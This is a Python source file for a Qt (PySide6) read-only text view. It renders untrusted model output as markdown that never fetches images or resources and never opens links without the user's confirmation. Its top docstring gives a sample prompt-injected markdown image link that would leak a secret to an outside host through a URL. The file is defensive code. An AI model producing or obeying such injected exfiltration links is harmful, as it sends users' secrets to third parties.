"""A read-only rich-text view for untrusted text (model output, pasted text, file names).

Model output is data: a prompt-injected `![x](http://host/leak?q=secret)` must never make Hearth
fetch anything. Markdown is parsed by Qt with raw HTML disabled; images are replaced by inert
text before rendering, every resource load is refused, and links open only through the
`link_activated` signal so the window can ask the user first, showing the full URL.
"""
from __future__ import annotations

from PySide6.QtCore import QUrl, Qt, Signal
from PySide6.QtGui import QTextCursor, QTextDocument, QTextImageFormat
from PySide6.QtWidgets import QSizePolicy, QTextBrowser

MARKDOWN_FEATURES = (QTextDocument.MarkdownFeature.MarkdownDialectGitHub
                     | QTextDocument.MarkdownFeature.MarkdownNoHTML)


class InertDocument(QTextDocument):
    """A document that never loads anything: not from the network, not from disk."""

    def loadResource(self, type_: int, name: QUrl) -> object:  # noqa: N802 - Qt override
        return None


def neutralize_images(document: QTextDocument) -> int:
    """Replace every image in the document with its alt text and URL as plain text."""
    replaced = 0
    block = document.begin()
    targets = []
    while block.isValid():
        it = block.begin()
        while not it.atEnd():
            fragment = it.fragment()
            if fragment.isValid() and fragment.charFormat().isImageFormat():
                fmt = QTextImageFormat(fragment.charFormat())
                targets.append((fragment.position(), fragment.length(), fmt.name(), fmt.property(0x5001) or ""))
            it += 1
        block = block.next()
    for position, length, url, _ in reversed(targets):
        cursor = QTextCursor(document)
        cursor.setPosition(position)
        cursor.setPosition(position + length, QTextCursor.MoveMode.KeepAnchor)
        cursor.insertText(f"[image not loaded: {url}]")
        replaced += 1
    return replaced


def plain_tooltip(text: str) -> str:
    """Qt guesses rich text for tooltips from any tag in the first line; this is always shown as typed."""
    from PySide6.QtGui import Qt as GuiQt  # convertFromPlainText lives in QtGui's Qt namespace

    return GuiQt.convertFromPlainText(text)


PARAGRAPH_GAP = 8  # px below a paragraph: Qt's markdown import leaves paragraphs touching


def render_markdown(document: QTextDocument, text: str) -> None:
    document.setMarkdown(text, MARKDOWN_FEATURES)
    neutralize_images(document)
    _space_paragraphs(document)


def _space_paragraphs(document: QTextDocument) -> None:
    """A gap under each paragraph and under a list's last item; list items stay together, and a
    table's cells get padding instead (Qt's markdown import leaves all of these touching)."""
    block = document.firstBlock()
    cursor = QTextCursor(document)
    padded = set()
    while block.isValid():
        following = block.next()
        cursor.setPosition(block.position())
        table = cursor.currentTable()
        if table is not None:
            if table.firstPosition() not in padded:
                padded.add(table.firstPosition())
                fmt = table.format()
                fmt.setCellPadding(4)
                fmt.setCellSpacing(0)
                fmt.setBorderCollapse(True)
                fmt.setBottomMargin(PARAGRAPH_GAP)
                table.setFormat(fmt)
        elif (following.isValid() and block.blockFormat().bottomMargin() < PARAGRAPH_GAP
              and (block.textList() is None or following.textList() is None)):
            fmt = block.blockFormat()
            fmt.setBottomMargin(PARAGRAPH_GAP)
            cursor.setBlockFormat(fmt)
        block = following


class SafeTextView(QTextBrowser):
    """Auto-height, selectable, never-fetching view of markdown or plain text."""

    link_activated = Signal(QUrl)

    def __init__(self, parent=None) -> None:
        super().__init__(parent)
        self.setDocument(InertDocument(self))
        self.setOpenLinks(False)
        self.setOpenExternalLinks(False)
        self.setReadOnly(True)
        self.setFrameShape(QTextBrowser.Shape.NoFrame)
        self.setHorizontalScrollBarPolicy(Qt.ScrollBarPolicy.ScrollBarAlwaysOff)
        self.setVerticalScrollBarPolicy(Qt.ScrollBarPolicy.ScrollBarAlwaysOff)
        self.setSizePolicy(QSizePolicy.Policy.Expanding, QSizePolicy.Policy.Fixed)
        self.setTextInteractionFlags(Qt.TextInteractionFlag.TextBrowserInteraction)
        self.anchorClicked.connect(self.link_activated.emit)
        self.document().documentLayout().documentSizeChanged.connect(self._fit_height)
        self.viewport().setAutoFillBackground(False)
        # Transparent through the app's style sheet (ui/style.py): a style sheet per widget
        # costs ~0.25 ms each, and a long chat opens with a hundred of these.
        self.setObjectName("safeText")

    def loadResource(self, type_: int, name: QUrl) -> object:  # noqa: N802 - Qt override
        return None

    def set_markdown(self, text: str) -> None:
        render_markdown(self.document(), text)
        self._fit_height()

    def set_plain(self, text: str) -> None:
        self.document().setPlainText(text)
        self._fit_height()

    # No Python resizeEvent or sizeHint here: QTextEdit already fits the text to the view's width
    # and reports the new size (documentSizeChanged), and the fixed height below is the hint.
    # Every Python override is a GIL round trip per view in each layout pass; with a worker
    # thread busy in Python (planning a long chat's prompt) a pass over a chat waited ~30 ms.
    def _fit_height(self, *_args) -> None:
        height = int(self.document().size().height()) + 4
        if height != self.height():
            self.setFixedHeight(height)
